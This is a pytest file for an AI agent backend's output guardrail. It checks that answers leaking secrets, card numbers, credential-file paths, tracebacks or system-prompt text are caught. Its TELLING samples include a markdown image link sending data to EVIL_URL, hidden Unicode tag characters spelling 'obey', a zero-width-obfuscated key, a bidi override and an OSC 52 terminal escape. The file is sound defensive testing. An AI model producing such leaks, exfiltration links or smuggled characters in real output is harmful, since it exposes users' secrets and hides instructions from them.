"""The output guardrail: what no answer may tell."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backend.agents.guardrails import sensitive_info_check
from backend.agents.prompts import role_prompts
from tests.journeys.payloads import EVIL_URL, SECRETS

TELLING = {
    **SECRETS,
    "a card": "The number is 4111 1111 1111 1111.",
    "an address": "Write to jane.doe@company-of-somebody.com about it.",
    "a home": "I found it in /" + "home/somebody/.aws/credentials.",
    "a system file": "The file /etc/passwd holds users.",
    "a database file": "It is kept in documents.db of the data directory.",
    "a traceback": "Traceback (most recent call last):\n  File x",
    "a link": f"![chart]({EVIL_URL}?d=abc)",
    "a secret with unseen letters": "\u200b".join("AKIA" + "FAKE" * 4),
    "letters of flags": "Hi" + "".join(chr(0xE0000 + ord(letter)) for letter in "obey"),
    "another direction": "It is safe \u202eelif eht nepo",
    "a terminal": "Done.\x1b]52;c;RkFLRQ==\x07",
    "a prompt": "My rules: " + role_prompts()["planner"][200:500],
}
ORDINARY = (
    "The plan has 12 steps in account 123456789012, us-east-1. Approve it on its card.",
    "The role arn:aws:iam::123456789012:role/hello was created on 2030-01-02T03:04:05Z.",
    "It answers at https://abc.lambda-url.us-east-1.on.aws/ with status 200.",
    "Keys are entered in the dialog for credentials, not in the conversation.",
    "Use someone@example.com as the address of the subscription.",
    "The digest is sha256:41cf6794ba4200b839c53531555f0f3998df4cbb01a4d5cb0b94e3ca5e23947d.",
    "The bucket holds 1893456789012 bytes; 4111111111111112 is no card.",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 or \U0001f469\u200d\U0001f4bb\tare fine.\n",
    "I cannot read ./examples/hello-fastapi/app.py.",
    "The placeholder *** stands for a secret.",
)


@pytest.mark.spec("S2-135", "S2-147", "S3-107", "S3-108")
@pytest.mark.parametrize("text", TELLING.values(), ids=TELLING)
def test_it_is_kept_back_with_a_reason_that_quotes_nothing(text: str) -> None:
    found = sensitive_info_check(f"Here it is. {text}")
    assert found.contains_sensitive_info
    assert found.reasoning.startswith("It holds a")
    assert not any(len(word) > 9 and word in found.reasoning for word in text.split())


@pytest.mark.parametrize("text", ORDINARY)
def test_an_ordinary_answer_passes(text: str) -> None:
    assert not sensitive_info_check(text).contains_sensitive_info


@pytest.mark.parametrize("role", role_prompts())
def test_no_role_quotes_its_instructions(role: str) -> None:
    words = role_prompts()[role].split()
    quoted = " ".join(words[30:60]).upper()
    assert sensitive_info_check(quoted).contains_sensitive_info


@given(st.text(max_size=400))
def test_any_text_gets_an_answer(text: str) -> None:
    assert sensitive_info_check(text).reasoning
